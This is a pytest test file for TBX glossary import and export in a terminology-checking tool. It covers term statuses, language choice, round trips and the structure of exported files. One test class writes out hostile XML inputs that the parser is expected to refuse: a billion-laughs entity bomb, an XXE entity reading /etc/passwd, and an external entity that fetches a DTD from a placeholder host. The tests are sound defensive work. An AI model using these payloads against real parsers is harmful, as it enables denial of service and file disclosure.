"""Tests for TBX import and export: v3 DCA/DCT, v2 martif, safety, round trips."""

from __future__ import annotations

import dataclasses
import xml.etree.ElementTree as ElementTree
from pathlib import Path

import pytest

from termcheck.errors import GlossaryError
from termcheck.glossary import bundled_glossaries, load_glossary, parse_glossary
from termcheck.interchange import export_glossary, import_glossary
from termcheck.interchange.tbx import read_tbx
from termcheck.interchange.tbx_write import TBX_NAMESPACE, write_tbx
from termcheck.model import Examples, Form, Glossary, Severity, Status, Term

DATA = Path(__file__).resolve().parent / "data" / "interchange"
SHARED = Path(__file__).resolve().parents[1].parent / "shared" / "termbases" / "tbx"
NS = f"{{{TBX_NAMESPACE}}}"
XML_LANG = "{http://www.w3.org/XML/1998/namespace}lang"


def comparable(glossary: Glossary) -> list[Term]:
    """The terms without the file positions that a round trip cannot keep."""

    def plain(form: Form) -> Form:
        return dataclasses.replace(form, line=0)

    return [
        dataclasses.replace(
            term,
            source="",
            line=0,
            allowed=tuple(map(plain, term.allowed)),
            forbidden=tuple(map(plain, term.forbidden)),
        )
        for term in glossary
    ]


def tbx_round_trip(glossary: Glossary, tmp_path: Path) -> Glossary:
    """Export to TBX, import the file again and load the generated YAML."""
    path = tmp_path / "out.tbx"
    path.write_text(write_tbx(glossary).text, encoding="utf-8")
    return parse_glossary(import_glossary("tbx", path).text)


def entry(path: Path, lang: str | None = None) -> dict[str, Term]:
    """The imported terms of a TBX file by id."""
    return {term.id: term for term in read_tbx(path, lang).terms}


class TestReadTbx:
    """Concepts become terms; administrativeStatus decides each form's standing."""

    def test_dca_statuses(self):
        """preferred: canonical, admitted: allowed, deprecated/superseded: forbidden."""
        quay = entry(DATA / "basic-dca.tbx")["quay"]
        assert quay.canonical == "quay"
        assert [f.text for f in quay.allowed] == ["wharf"]
        assert [f.text for f in quay.forbidden] == ["landing stage", "key wall"]
        assert all(f.status is Status.FORBIDDEN for f in quay.forbidden)

    def test_notes_and_term_type_kept_as_note(self):
        """Concept notes and a term's termType end up in the term's note."""
        quay = entry(DATA / "basic-dca.tbx")["quay"]
        assert quay.note.startswith("A landing place built along the shore.")
        assert '"landing stage": variant.' in quay.note

    def test_contexts_become_examples(self):
        """A preferred term's context is a good example, a deprecated one's bad."""
        quay = entry(DATA / "basic-dca.tbx")["quay"]
        assert quay.examples == Examples(
            bad=("Passengers waited on the landing stage.",),
            good=("The ferry ties up at the quay.",),
        )

    def test_no_status_first_term_is_canonical(self):
        """Without any status, the first term is canonical and the others allowed."""
        pilot = entry(DATA / "basic-dca.tbx")["pilot"]
        assert (pilot.canonical, [f.text for f in pilot.allowed]) == (
            "harbour pilot",
            ["marine pilot"],
        )

    def test_concepts_without_the_language_are_left_out(self):
        """A concept with no section in the chosen language is not a term."""
        assert "berth" not in entry(DATA / "basic-dca.tbx")
        assert "berth" in entry(DATA / "basic-dca.tbx", "de")

    def test_only_deprecated_terms_is_skipped_with_a_warning(self):
        """A concept with nothing to suggest is skipped, and the warning says so."""
        imported = read_tbx(DATA / "basic-dca.tbx")
        assert "jetty" not in {t.id for t in imported.terms}
        assert any("jetty" in warning for warning in imported.warnings)

    def test_dct_style(self):
        """DCT data categories (min:administrativeStatus, basic:context) are read."""
        quay = entry(DATA / "basic-dct.tbx", "en")["quay"]
        assert [f.text for f in quay.forbidden] == ["landing stage"]
        assert quay.examples.good == ("The ferry ties up at the quay.",)
        assert '"quay": fullForm.' in quay.note
        assert "Used in older port plans." in quay.note

    def test_language_prefix_matches_regional_tags(self):
        """--lang en takes an en-GB section."""
        assert set(entry(DATA / "basic-dct.tbx", "en")) == {"quay"}

    def test_martif_v2_tig_and_ntig(self):
        """TBX v2: tig and ntig/termGrp terms, normativeAuthorization, obsolete."""
        tide = entry(DATA / "martif-v2.tbx", "en")["tide-table"]
        assert tide.canonical == "tide table"
        assert [f.text for f in tide.forbidden] == ["tidal chart", "tide tables list"]

    def test_unknown_status_is_allowed_with_a_warning(self):
        """A status outside the picklist is imported as allowed, and named."""
        imported = read_tbx(DATA / "martif-v2.tbx", "en")
        (term,) = imported.terms
        assert [f.text for f in term.allowed] == ["tide almanac"]
        assert any("folkloreTerm" in warning for warning in imported.warnings)

    def test_title_becomes_name(self):
        """The TBX title names the glossary."""
        assert read_tbx(DATA / "basic-dca.tbx").name == "Harbour terms"


class TestLanguageChoice:
    """--lang picks the language; its absence is an error that lists the others."""

    def test_missing_language_lists_those_present(self):
        """Asking for a language the file lacks names the languages it has."""
        with pytest.raises(GlossaryError, match=r"languages present: de, en$"):
            read_tbx(DATA / "basic-dca.tbx", "fr")

    def test_default_is_the_files_language(self):
        """Without --lang, the tbx element's xml:lang is used."""
        assert read_tbx(DATA / "basic-dca.tbx").language == "en"

    def test_several_languages_and_no_default(self, tmp_path):
        """No --lang and no usable default: an error asking for --lang."""
        text = (DATA / "basic-dca.tbx").read_text(encoding="utf-8")
        path = tmp_path / "x.tbx"
        without = text.replace(' xml:lang="en" xmlns', " xmlns")
        path.write_text(without, encoding="utf-8")
        with pytest.raises(GlossaryError, match=r"several languages \(de, en\)"):
            read_tbx(path)


class TestUnsafeXml:
    """Entity tricks are refused before anything is expanded or fetched."""

    @pytest.mark.parametrize(
        "document",
        [
            # Billion laughs: nested entities that expand exponentially.
            '<?xml version="1.0"?><!DOCTYPE tbx [<!ENTITY a "aaaaaaaaaa">'
            '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
            '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><tbx>&c;</tbx>',
            # XXE: an external entity pointing at a local file.
            '<?xml version="1.0"?><!DOCTYPE tbx [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            "<tbx><text><body><conceptEntry><langSec><termSec><term>&x;</term>"
            "</termSec></langSec></conceptEntry></body></text></tbx>",
            # A parameter entity that would pull in an external DTD.
            '<?xml version="1.0"?><!DOCTYPE tbx [<!ENTITY % ext SYSTEM '
            '"http://example.invalid/evil.dtd"> %ext;]><tbx/>',
        ],
        ids=["billion-laughs", "xxe-file", "external-parameter-entity"],
    )
    def test_refused(self, tmp_path, document):
        """Entity declarations are an error naming the file; nothing is expanded."""
        path = tmp_path / "hostile.tbx"
        path.write_text(document, encoding="utf-8")
        with pytest.raises(GlossaryError, match="refusing") as caught:
            read_tbx(path)
        assert caught.value.path == str(path)

    def test_named_dtd_is_not_fetched(self, tmp_path):
        """A DOCTYPE naming a DTD (as TBX v2 files do) is read without fetching it."""
        assert entry(DATA / "martif-v2.tbx", "en")  # the DTD file does not exist

    def test_malformed_xml_cites_line_and_column(self, tmp_path):
        """Broken XML is an error with the position of the problem."""
        path = tmp_path / "broken.tbx"
        path.write_text("<tbx>\n  <text></tbx>\n", encoding="utf-8")
        with pytest.raises(GlossaryError, match="not well-formed") as caught:
            read_tbx(path)
        assert caught.value.line == 2

    def test_not_tbx(self, tmp_path):
        """Another XML vocabulary is refused with the root element named."""
        path = tmp_path / "note.xml"
        path.write_text("<note/>", encoding="utf-8")
        with pytest.raises(GlossaryError, match="root element is <note>"):
            read_tbx(path)


class TestWriteTbx:
    """Export writes TBX-Basic v3 in DCA style, valid by its content model."""

    @pytest.fixture(name="tree")
    def _tree(self) -> ElementTree.Element:
        """The exported diplomacy-en glossary, parsed."""
        text = write_tbx(load_glossary("diplomacy-en")).text
        return ElementTree.fromstring(text.encode("utf-8"))

    def test_root(self, tree):
        """The root is a TBX-Basic tbx element with style, language and namespace."""
        assert tree.tag == NS + "tbx"
        assert (tree.get("type"), tree.get("style"), tree.get(XML_LANG)) == (
            "TBX-Basic",
            "dca",
            "en",
        )
        assert [child.tag for child in tree] == [NS + "tbxHeader", NS + "text"]

    def test_content_model(self, tree):
        """conceptEntry: notes then langSec; termSec: term, termNote, descrip."""
        concepts = tree.findall(f"{NS}text/{NS}body/{NS}conceptEntry")
        assert len(concepts) == 21
        for concept in concepts:
            tags = [child.tag.removeprefix(NS) for child in concept]
            assert tags[-1] == "langSec"
            assert set(tags[:-1]) <= {"note"}
            for term_section in concept.iter(NS + "termSec"):
                names = [child.tag.removeprefix(NS) for child in term_section]
                assert names[:2] == ["term", "termNote"]
                assert set(names[2:]) <= {"descrip"}
                assert term_section[1].get("type") == "administrativeStatus"
                assert term_section[1].text in {
                    "preferredTerm-admn-sts",
                    "admittedTerm-admn-sts",
                    "deprecatedTerm-admn-sts",
                }
                for descrip in term_section.findall(NS + "descrip"):
                    assert descrip.get("type") == "context"

    def test_ids_are_xml_ids(self):
        """A term id starting with a digit gets a leading underscore, read back."""
        glossary = Glossary((Term("5g", "5G network"),))
        concept = ElementTree.fromstring(write_tbx(glossary).text.encode())
        entry_element = concept.find(f".//{NS}conceptEntry")
        assert entry_element is not None
        assert entry_element.get("id") == "_5g"

    def test_empty_glossary_is_an_error(self):
        """TBX needs at least one concept."""
        with pytest.raises(GlossaryError, match="empty"):
            write_tbx(Glossary(()))


class TestTbxRoundTrip:
    """Export then import gives back the same glossary."""

    @pytest.mark.parametrize("name", sorted(bundled_glossaries()))
    def test_shipped_glossaries(self, tmp_path, name):
        """Every shipped glossary survives TBX export and import unchanged."""
        glossary = load_glossary(name)
        again = tbx_round_trip(glossary, tmp_path)
        assert comparable(again) == comparable(glossary)
        assert again.name == glossary.name

    def test_every_setting(self, tmp_path):
        """Regex forms (in place), case, fuzzy, severity and examples come back."""
        term = Term(
            id="5g",
            canonical="5G network",
            allowed=(
                Form("fifth-generation network", Status.ALLOWED),
                Form(r"5G net(work)?s?", Status.ALLOWED, regex=True),
            ),
            forbidden=(
                Form(r"5 ?G+ nets", Status.FORBIDDEN, regex=True),
                Form("5th gen network", Status.FORBIDDEN),
            ),
            case_sensitive=True,
            fuzzy=None,
            severity=Severity.INFO,
            note='Says "5G".',
            examples=Examples(("a 5th gen network",), ("a 5G network",)),
        )
        other = Term(
            id="lte", canonical="LTE", fuzzy=0.95, examples=Examples(bad=("lte here",))
        )
        glossary = Glossary((term, other), name="Mobile")
        assert comparable(tbx_round_trip(glossary, tmp_path)) == comparable(glossary)


@pytest.mark.skipif(not SHARED.is_dir(), reason="shared term bases not present")
class TestRealTbxFiles:
    """The sample TBX files from the TBX-Basic dialect and Weblate import."""

    def test_tbx_basic_v3_astronomy(self):
        """The DCA reference example: preferred, admitted and superseded terms."""
        terms = entry(SHARED / "TBX-Basic_v3_Example_Astronomy_DCA.tbx", "en")
        assert len(terms) == 39
        assert terms["c1"].canonical == "open cluster"
        assert [f.text for f in terms["c1"].forbidden] == ["galactic cluster"]
        cno = terms["c38"]
        assert cno.canonical == "CNO cycle"
        assert [f.text for f in cno.forbidden] == ["carbon cycle"]
        assert len(cno.allowed) == 4

    def test_languages_listed(self):
        """Asking for French lists the three languages of the file."""
        with pytest.raises(GlossaryError, match="languages present: en, es, zu"):
            read_tbx(SHARED / "TBX-Basic_v3_Example_Astronomy_DCA.tbx", "fr")

    def test_martif_with_obsolete_term(self):
        """The Weblate v2 file: the obsolete-only entry is skipped and reported."""
        imported = read_tbx(
            SHARED / "TBX_v2_martif_weblate_fr-extended-metadata.tbx", "fr"
        )
        assert [t.canonical for t in imported.terms] == ["SYS_ERR_406"]
        assert any("e001" in warning for warning in imported.warnings)

    def test_imported_yaml_loads(self):
        """The generated glossary file loads and validates."""
        path = SHARED / "TBX-Basic_v3_Example_Astronomy_DCA.tbx"
        result = import_glossary("tbx", path)
        assert len(parse_glossary(result.text)) == result.terms == 39


def test_export_registry_writes_tbx():
    """export_glossary('tbx') is write_tbx."""
    glossary = Glossary((Term("quay", "quay"),))
    assert export_glossary("tbx", glossary).text == write_tbx(glossary).text
